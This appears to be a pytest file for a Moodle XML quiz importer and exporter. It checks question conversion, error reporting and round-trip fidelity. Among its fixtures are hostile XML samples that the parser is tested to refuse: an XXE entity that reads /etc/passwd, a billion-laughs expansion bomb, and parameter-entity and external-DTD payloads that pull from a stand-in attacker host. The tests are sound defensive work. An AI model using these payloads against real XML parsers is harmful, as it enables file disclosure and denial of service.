"""Moodle XML ↔ our banks and cases (training/interchange/moodle_xml.py): a rich sample, hostile XML
refused, and the shipped content through Moodle XML and back. Pure: no app, no database."""
from __future__ import annotations

import xml.etree.ElementTree as ET
from functools import lru_cache
from pathlib import Path

import pytest
from test_interchange_gift import (
    shipped,  # the shipped content, read once for both formats
)

from training.content.items import CaseItem
from training.content.markdown import raw_html_lines
from training.content.parse import parse_document
from training.content.punctuation import half_width_lines
from training.interchange import moodle_xml
from training.interchange.common import ImportRefused, ImportResult

ROOT = Path(__file__).resolve().parent.parent
RICH = ROOT / "tests" / "data" / "interchange" / "rich.xml"


@lru_cache(maxsize=1)
def rich() -> ImportResult:
    return moodle_xml.parse(RICH.read_bytes(), "plan", areas=shipped().areas)


def parsed(result: ImportResult) -> tuple[dict, dict]:
    """(questions, cases) by id, read back from the result's documents by our own parser."""
    questions, cases = {}, {}
    for path, text in result.documents.items():
        items, problems = parse_document(path, text)
        assert not problems, problems
        assert not raw_html_lines(text) and not half_width_lines(text), path
        for item in items:
            if isinstance(item, CaseItem):
                cases[item.id] = item
            else:
                questions.update({q.id: q for q in item.questions})
    return questions, cases


def question_line(moodle_id: int) -> int:
    """The line of <question> after the `<!-- question: N -->` comment in the sample."""
    lines = RICH.read_text(encoding="utf-8").split("\n")
    return next(i for i, t in enumerate(lines, start=1) if t.strip() == f"<!-- question: {moodle_id}  -->") + 1


def test_rich_sample_converts_to_documents_our_parser_accepts():
    result = rich()
    assert list(result.documents) == ["cases/plan/case-xml-yoghurt.md", "questions/competition/imported.md",
                                      "questions/plan/imported.md"]
    questions, cases = parsed(result)
    assert len(questions) + len(cases) == result.imported == 8


def test_html_cdata_files_and_answer_feedback():
    q = parsed(rich())[0]["xml-single"]
    assert (q.qtype, q.answer, q.difficulty, q.knowledge) == ("单选", "a", "易", ["kp-plan-concept"])
    assert "**哪一项**" in q.stem_md and "<" not in q.stem_md + q.explanation_md and "alert" not in q.explanation_md
    assert [o["text"] for o in q.data["options"]] == ["指导作用", "推动作用", "激励作用"]
    assert "- {a}：对，指方向就是指导。" in q.explanation_md
    note = next(n for n in rich().notes if n.title == "HTML 单选题")
    assert note.line == question_line(101) and "附带的文件" in note.message and "图片没有导入" in note.message


def test_fractions_make_the_right_set_and_an_unusable_idnumber_is_replaced():
    q = next(q for q in parsed(rich())[0].values() if q.qtype == "多选")
    assert q.id.startswith("q-") and q.answer == ["a", "b", "c"]
    assert "{d}属于前言" in q.explanation_md and "- {d}：这是前言的内容。" in q.explanation_md
    note = next(n for n in rich().notes if n.title == "多选 权重")
    assert "Q-102" in note.message and "部分得分权重" in note.message


def test_true_false_both_ways():
    questions = parsed(rich())[0]
    assert questions["xml-false"].answer is False and questions["xml-true"].answer is True
    assert "- 答“对”：不对：不只售后。" in questions["xml-false"].explanation_md


def test_matching_keeps_keys_from_a_keys_comment_and_a_spare_category():
    q = parsed(rich())[0]["xml-match"]
    assert [c["key"] for c in q.data["categories"]] == ["desire", "generic", "form", "brand", "spare"]
    assert q.answer == {"buy": "desire", "fly": "generic", "tv": "form", "oled": "brand"}
    assert q.area == "competition" and q.knowledge == ["kp-competition-types"]


def test_ordering_follows_the_fractions():
    q = parsed(rich())[0]["xml-order"]
    assert [s["text"][:2] for s in q.data["steps"]] == ["安抚", "表示", "查明", "提出"]


def test_our_essay_becomes_a_case_and_a_foreign_essay_is_reported():
    case = parsed(rich())[1]["case-xml-yoghurt"]
    assert (case.kind, case.difficulty, case.order, case.area) == ("答辩", "难", 5, "plan")
    assert [(p.key, p.weight) for p in case.key_points] == [("calm", 40), ("remedy", 60)]
    assert case.background_md.startswith("顾客说") and case.prompt_md.startswith("如果你是")
    foreign = next(n for n in rich().errors if n.title == "外来论述题")
    assert foreign.line == question_line(108) and "参考要点" in foreign.message


@pytest.mark.parametrize("moodle_id, title, fragment", [
    (109, "简答", "简答填空题（shortanswer）"),
    (110, "数值", "数值题（numerical）"),
    (111, "完形", "嵌入式完形填空题（cloze）"),
    (112, "说明", "说明文字（description）"),
    (113, "没有正确答案", "没有得满分（100%）的选项"),
])
def test_what_does_not_come_in_is_said_with_line_and_title(moodle_id, title, fragment):
    note = next(n for n in rich().errors if n.title == title)
    assert note.line == question_line(moodle_id) and fragment in note.message
    assert str(note).startswith(f"第 {note.line} 行“{title}”：未导入：")


def test_unknown_category_and_raw_html_in_markdown_are_noted():
    notes = {n.title: n.message for n in rich().notes if n.kept}
    assert "不对应任何考纲领域" in notes["$course$/top/一个不存在的分类"]
    assert "按文字原样显示" in notes["Markdown 里的 HTML"]
    assert "&lt;b>标签&lt;/b>" in parsed(rich())[0]["xml-md-html"].stem_md


XXE = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="truefalse"><name><text>&xxe;</text></name></question></quiz>"""
LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE quiz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<quiz><question type="essay"><name><text>&lol9;</text></name></question></quiz>"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<quiz/>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.invalid/quiz.dtd">
<quiz/>"""


@pytest.mark.parametrize("data", [XXE, LAUGHS, PARAMETER, EXTERNAL_DTD], ids=["xxe", "billion-laughs",
                                                                              "parameter-entity", "external-dtd"])
def test_entities_and_dtds_are_refused_never_resolved(data):
    with pytest.raises(ImportRefused) as refused:
        moodle_xml.parse(data.encode(), "plan")
    assert "实体" in str(refused.value) and "安全" in str(refused.value) and "root" not in str(refused.value)


@pytest.mark.parametrize("data, fragment", [
    (b"<quiz><question type='truefalse'>", "不是格式正确的 XML"),
    (b"<quiz>&undefined;</quiz>", "不是格式正确的 XML"),
    (b"<html><body>hi</body></html>", "最外层应是 <quiz>"),
    ("<quiz/>".encode("utf-16"), ""),
])
def test_malformed_or_foreign_xml(data, fragment):
    if not fragment:  # a UTF-16 file is still XML: an empty quiz, nothing imported
        assert moodle_xml.parse(data, "plan").documents == {}
        return
    with pytest.raises(ImportRefused, match=fragment):
        moodle_xml.parse(data, "plan")


def test_shipped_content_through_moodle_xml_and_back_is_the_same_in_substance():
    content = shipped()
    exported = moodle_xml.export_with_notes(content)
    assert exported.notes == []  # every question type and every case has a Moodle form
    result = moodle_xml.parse(exported.data, "plan", areas=content.areas)
    assert not result.errors
    questions, cases = parsed(result)
    assert {q.qtype for q in content.questions} == {"单选", "多选", "判断", "排序", "匹配"}
    assert len(questions) == len(content.questions) and len(cases) == len(content.cases)
    for q in content.questions:
        b = questions[q.id]
        assert (b.qtype, b.stem_md, b.data, b.answer, b.explanation_md) == \
               (q.qtype, q.stem_md, q.data, q.answer, q.explanation_md), q.id
        assert (b.area, b.difficulty, b.knowledge) == (q.area, q.difficulty, q.knowledge), q.id
    for c in content.cases:
        b = cases[c.id]
        assert (b.title, b.area, b.kind, b.difficulty, b.order, b.knowledge, b.prompt_md, b.background_md) == \
               (c.title, c.area, c.kind, c.difficulty, c.order, c.knowledge, c.prompt_md, c.background_md), c.id
        strip = lambda parts: [{**vars(p), "line": 0} for p in parts]
        assert strip(b.key_points) == strip(c.key_points) and strip(b.followups) == strip(c.followups), c.id


def test_export_is_moodle_shaped_and_deterministic():
    content = shipped()
    data = moodle_xml.export(content)
    assert data == moodle_xml.export(content) and data.startswith(b'<?xml version="1.0" encoding="UTF-8"?>')
    quiz = ET.fromstring(data)
    by_type: dict[str, list] = {}
    for q in quiz.findall("question"):
        by_type.setdefault(q.get("type"), []).append(q)
    assert set(by_type) == {"category", "multichoice", "truefalse", "matching", "ordering", "essay"}
    assert {q.findtext("single") for q in by_type["multichoice"]} == {"true", "false"}
    multi = next(q for q in by_type["multichoice"] if q.findtext("single") == "false")
    fractions = [float(a.get("fraction")) for a in multi.findall("answer")]
    assert abs(sum(f for f in fractions if f > 0) - 100) < 0.001 and min(fractions) == -100
    essay = by_type["essay"][0]
    assert "## 参考要点" in essay.findtext("graderinfo/text") and "提示词：" in essay.findtext("graderinfo/text")
    assert {c.findtext("category/text") for c in by_type["category"]} == {f"$course$/top/{a}" for a in
                                                                          {q.area for q in content.questions} |
                                                                          {c.area for c in content.cases}}


def test_a_case_title_gets_chinese_punctuation_like_the_rest():
    data = RICH.read_bytes().replace("酸奶里喝出苍蝇（缩写）".encode(), "酸奶里喝出苍蝇,怎么办?".encode())
    path = "cases/plan/case-xml-yoghurt.md"
    text = moodle_xml.parse(data, "plan").documents[path]
    assert 'title: "酸奶里喝出苍蝇，怎么办？"' in text and not half_width_lines(text)
